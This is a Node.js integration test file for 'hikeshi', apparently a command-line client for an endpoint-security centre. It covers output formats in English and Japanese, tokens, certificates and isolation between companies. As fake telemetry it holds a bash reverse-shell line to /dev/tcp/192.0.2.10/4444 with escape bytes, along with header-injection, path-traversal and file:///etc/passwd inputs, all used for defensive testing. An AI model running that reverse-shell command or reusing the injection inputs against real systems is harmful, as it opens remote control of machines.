// timeout: 120
// hikeshi company|device|incident against a real centre with a real device.

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { until } from '../lib/client.mjs';
import { Centre, event, freePort } from '../wire/centre.mjs';
import { environment, file, folder, HIKESHI, RULES } from './program.mjs';

const UNKNOWN = '01234567-89ab-7cde-8f01-23456789abcd';
const EVIL = 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1 # \u001b[31m\u009b';
const DEVICES = 3;

let centre, analyst, token, device, incident, company, foreign;

/* Not spawnSync: the centre's log flows through this process. */
function hikeshi(args, { env = {}, language = 'en' } = {}) {
	return new Promise((done) => {
		const child = spawn(HIKESHI, ['--lang', language, ...args], { cwd: folder, stdio: ['ignore', 'pipe', 'pipe'],
			env: { ...environment, HIKESHI_URL: centre.people, HIKESHI_CA: centre.ca, HIKESHI_TOKEN: token, ...env } });
		const answer = { out: '', err: '' };
		child.stdout.on('data', (text) => { answer.out += text; });
		child.stderr.on('data', (text) => { answer.err += text; });
		child.once('close', (status) => done({ ...answer, status }));
	});
}

async function good(args, more) {
	const done = await hikeshi(args, more);
	assert.equal(done.status, 0, `${args.join(' ')}: ${done.out}${done.err}`);
	assert.equal(done.err, '');
	return done.out;
}

const makeToken = async (scope) => (await analyst.ask('POST', '/v1/tokens', { name: 'cli', scope })).secret;

before(async () => {
	centre = new Centre({ arguments: ['--rules', RULES] });
	centre.sample();
	await centre.start();
	analyst = await centre.person('analyst');
	token = await makeToken(['company.read', 'device.read', 'incident.read']);
	company = (await analyst.ask('GET', '/v1/companies')).items[0];
	const all = spawnSync('sqlite3', [join(centre.data, 'store/records.sqlite'), 'SELECT id FROM company'], { encoding: 'utf8' });
	foreign = all.stdout.trim().split('\n').find((id) => id !== company.id);
	assert.ok(foreign, 'there is a second company, of another operator');
	for (let i = 0; i < DEVICES; i++)
		device = centre.enrol((await analyst.ask('POST', '/v1/enrolment-tokens', { company: company.id })).secret);
	const sent = await device.batch([event({ Image: '/usr/bin/bash', CommandLine: EVIL, User: 'tanaka', ProcessId: 4242,
		ProcessGuid: '{00000001-1111-2222-3333-444444444444}', ParentImage: '/usr/bin/bash' })]);
	assert.equal(sent.status, 200, sent.text);
	incident = await until(20, async () => (await analyst.ask('GET', '/v1/incidents')).items[0]);
	assert.ok(incident);
	await analyst.ask('POST', `/v1/incidents/${incident.id}/notes`, { text: 'メモ\n二行目' });
});
after(() => centre?.done());

test('--json is what the centre answers', async () => {
	const answer = async (...args) => JSON.parse(await good([...args, '--json']));
	const list = async (path) => (await analyst.ask('GET', path)).items;
	const still = (things) => things.map(({ last_seen, ...rest }) => rest);
	assert.deepEqual(await answer('company', 'list'), await list('/v1/companies'));
	assert.deepEqual(still(await answer('device', 'list')), still(await list('/v1/devices')));
	assert.equal((await answer('device', 'list')).length, DEVICES);
	assert.deepEqual(await answer('incident', 'list'), await list('/v1/incidents'));
	assert.deepEqual(await answer('company', 'show', company.id), await analyst.ask('GET', `/v1/companies/${company.id}`));
	assert.equal((await answer('device', 'show', device.id)).id, device.id);
	const shown = await answer('incident', 'show', incident.id);
	assert.equal(shown.incident.id, incident.id);
	assert.equal(shown.processes.find((process) => process.pid === 4242).command_line, EVIL, 'the same values');
	assert.deepEqual(shown.timeline, await analyst.ask('GET', `/v1/incidents/${incident.id}/timeline`));
});

test('tables for people, in both languages', async () => {
	const en = await good(['incident', 'list']), ja = await good(['incident', 'list'], { language: 'ja' });
	assert.match(en, /^number +level +state +last seen +device +company +id +what\n/);
	assert.match(en, new RegExp(`^#${incident.number} +critical  new +\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\dZ  .*${incident.id}  Reverse Shell Command Line\n$`, 'm'));
	assert.match(ja, /重大 .*未対応 .*リバースシェル/);
	assert.match(await good(['device', 'list'], { language: 'ja' }), /^ID +状態 +隔離中 +最終確認 +端末 +会社\n[^\n]* 利用中  いいえ/);
	assert.match(await good(['company', 'list']), new RegExp(`${company.id}  ${DEVICES}  +1  +${company.name}`));
	assert.match(await good(['company', 'show', company.id], { language: 'ja' }), new RegExp(`^会社 +${company.name}$`, 'm'));
	assert.match(await good(['device', 'show', device.id]), /^state +active$/m);
});

test('an incident with its processes and timeline', async () => {
	const en = await good(['incident', 'show', incident.id]), ja = await good(['incident', 'show', incident.id], { language: 'ja' });
	assert.match(en, /^Reverse Shell Command Line\n\nid /);
	assert.match(en, /^ +! 4242 {2}bash -i >& \/dev\/tcp\/192\.0\.2\.10\/4444 0>&1 # \.\[31m\. {2}\(tanaka\)$/m);
	assert.match(en, /Z {2}\[critical\] Reverse Shell Command Line$/m);
	assert.match(en, /Z {2}note {2}メモ 二行目 {2}\(.+\)$/m);
	assert.match(ja, /^外部から遠隔操作するための接続（リバースシェル）\n\nID /);
	assert.match(ja, /Z {2}\[重大\] 外部から/);
	for (const text of [en, ja, await good(['incident', 'show', incident.id, '--json'])])
		assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
});

test('an incident by the number of the list', async () => {
	const whole = await good(['incident', 'show', incident.id]);
	for (const number of [`${incident.number}`, `#${incident.number}`])
		assert.equal(await good(['incident', 'show', number]), whole);
	assert.match(whole, new RegExp(`^number +#${incident.number}$`, 'm'));
	for (const [number, words] of [['#999', /there is no incident #999/], [`#${'9'.repeat(18)}`, /there is no incident #9{18}$/m], ['#', /centre answers/], ['0', /centre answers/],
		['9'.repeat(19), /centre answers/], ['#1x', /centre answers/], ['-1', /./]])
		assert.match((await hikeshi(['incident', 'show', number])).err, words, number);
});

test('times are those of the machine, or UTC', async () => {
	const seen = new Date(incident.first_seen), pad = (text) => text.replace('T', ' ').slice(0, 19);
	const tokyo = pad(new Date(seen.getTime() + 9 * 3600000).toISOString());
	assert.ok((await good(['incident', 'show', incident.id], { env: { TZ: 'Asia/Tokyo' } })).includes(`${tokyo}+09:00`));
	assert.match(await good(['incident', 'list'], { env: { TZ: 'Asia/Tokyo' } }), /:\d\d\+09:00 /);
	for (const words of [['incident', 'show', incident.id], ['incident', 'list'], ['company', 'show', company.id]])
		assert.match(await good([...words, '--utc'], { env: { TZ: 'Asia/Tokyo' } }), /:\d\dZ/);
});

test('a list of nothing says so', async () => {
	assert.equal(await good(['incident', 'list', '--state', 'closed']), 'There is none.\n');
	assert.equal(await good(['incident', 'list', '--state', 'closed'], { language: 'ja' }), '該当するものはありません。\n');
	assert.equal(await good(['incident', 'list', '--state', 'closed', '--json']), '[]\n');
});

test('lists may be chosen by state', async () => {
	const count = async (state) => JSON.parse(await good(['incident', 'list', '--state', state, '--json'])).length;
	assert.deepEqual([await count('open'), await count('new'), await count('closed')], [1, 1, 0]);
	const wrong = await hikeshi(['incident', 'list', '--state', 'a&limit=1']);
	assert.equal(wrong.status, 2);
	assert.match(wrong.err, /^hikeshi: the centre answers 422: [ -~]+$/m, 'in the language of the call');
	assert.equal((await hikeshi(['device', 'list', '--state', 'new'])).status, 2);
});

test('what is foreign is not there, just as what does not exist', async () => {
	const answer = async (...args) => {
		const done = await hikeshi(args);
		assert.equal(done.status, 66, done.err);
		assert.equal(done.out, '');
		return done.err;
	};
	assert.equal(await answer('company', 'show', foreign), await answer('company', 'show', UNKNOWN));
	await answer('device', 'show', UNKNOWN);
	await answer('incident', 'show', UNKNOWN);
	assert.ok(!(await good(['company', 'list', '--json'])).includes(foreign));
	for (const id of ['..', '../companies', 'a/b', '%2e%2e', 'x?y', '日本'])
		assert.notEqual((await hikeshi(['company', 'show', id])).status, 0, id);
});

test('no right, no answer', async () => {
	const wrong = await hikeshi(['company', 'list'], { env: { HIKESHI_TOKEN: `hkt_${'A'.repeat(43)}` } });
	assert.equal(wrong.status, 77);
	assert.match(wrong.err, /the centre answers 401: /);
	const narrow = await hikeshi(['incident', 'list'], { env: { HIKESHI_TOKEN: await makeToken(['company.read']) } });
	assert.equal(narrow.status, 77);
	assert.match(narrow.err, /the centre answers 403: /);
	assert.match((await hikeshi(['company', 'list'], { language: 'ja', env: { HIKESHI_TOKEN: 'x' } })).err, /センターの応答 401: .*[ぁ-ん]/);
});

test('the token', async () => {
	const empty = { HIKESHI_TOKEN: '' };
	await good(['company', 'list', '--token-file', file('token', `${token}\n`)], { env: empty });
	for (const [args, env, status, words] of [
		[[], empty, 2, /no API token\n.*--token-file/],
		[[], { HIKESHI_TOKEN: 'a\r\nX-Evil: 1' }, 2, /no API token/],
		[['--token-file', join(folder, 'absent')], empty, 66, /absent: there is no such file/],
		[['--token-file', file('empty', '\n')], empty, 2, /no API token/],
		[['--token-file', file('long', 'x'.repeat(5000))], empty, 65, /more than 4096 bytes/],
	]) {
		const done = await hikeshi(['company', 'list', ...args], { env });
		assert.equal(done.status, status, done.err);
		assert.match(done.err, words);
		assert.ok(!done.err.includes(token));
	}
});

test('where the centre is not', async () => {
	const away = { HIKESHI_URL: `https://127.0.0.1:${await freePort()}` };
	const done = await hikeshi(['company', 'list'], { env: away });
	assert.equal(done.status, 69);
	assert.match(done.err, /asking https:\/\/127.*\n.*does the centre run, and is --url right\?/);
	assert.match((await hikeshi(['company', 'list'], { env: away, language: 'ja' })).err, /センターは動いていますか/);
	for (const url of ['http://127.0.0.1:1', 'file:///etc/passwd', '127.0.0.1:8443', 'https://', ''])
		assert.match((await hikeshi(['company', 'list', `--url=${url}`])).err, /the address looks like https:|asking/, url);
	assert.match(await good(['company', 'list', '--url', `${centre.people}/`]), /^id/);
});

test('a certificate of somebody else is refused, with what to do', async () => {
	const other = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '1',
		'-subj', '/CN=other', '-keyout', join(folder, 'other.key'), '-out', join(folder, 'other.pem')]);
	assert.equal(other.status, 0);
	const rows = [
		[join(folder, 'other.pem'), /not of the centre's authority.*ca\.pem.*--ca/],
		[join(folder, 'absent.pem'), /no certificate can be read from .*absent\.pem/],
		[file('noise.pem', 'noise'), /no certificate can be read from .*noise\.pem/],
	];
	for (const [ca, words] of rows) {
		const done = await hikeshi(['company', 'list', '--ca', ca]);
		assert.equal(done.status, 69, done.err);
		assert.match(done.err, words);
	}
	assert.match((await hikeshi(['company', 'list'], { env: { HIKESHI_CA: undefined } })).err, /--ca or HIKESHI_CA/);
});

test('wrong calls', async () => {
	for (const args of [['company', 'show'], ['company', 'show', 'a', 'b'], ['device', 'list', 'x'], ['incident', 'show', '--frob', 'x'], ['device', 'show', '--ca']])
		assert.equal((await hikeshi(args)).status, 2, args.join(' '));
});

/* The last: from here on the analyst sees both companies. */
test('a number that several companies have: their ids are told', async () => {
	const done = spawnSync('sqlite3', ['-cmd', '.timeout 10000', join(centre.data, 'store/records.sqlite'),
		`INSERT INTO participation (id, company, programme, course, since_at) SELECT 'ffffffff-0000-7000-8000-000000000001', '${foreign}', programme, course, since_at FROM participation WHERE company = '${company.id}' LIMIT 1;`], { encoding: 'utf8' });
	assert.equal(done.status, 0, done.stderr);
	const other = centre.enrol((await analyst.ask('POST', '/v1/enrolment-tokens', { company: foreign })).secret);
	assert.equal((await other.batch([event({ Image: '/usr/bin/bash', CommandLine: EVIL, User: 'sato', ProcessId: 4243,
		ProcessGuid: '{00000001-1111-2222-3333-555555555555}', ParentImage: '/usr/bin/bash' })])).status, 200);
	const both = await until(20, async () => { const { items } = await analyst.ask('GET', '/v1/incidents'); return items.length === 2 ? items : null; });
	assert.equal(both[0].number, both[1].number);
	const asked = await hikeshi(['incident', 'show', `#${incident.number}`]);
	assert.equal(asked.status, 2);
	assert.match(asked.err, new RegExp(`^hikeshi: #${incident.number} is of several companies; give one of these ids\n`));
	for (const one of both)
		assert.match(asked.err, new RegExp(`^  → ${one.id}  ${one.company.name}  Reverse Shell Command Line$`, 'm'));
	assert.equal(asked.out, '');
});
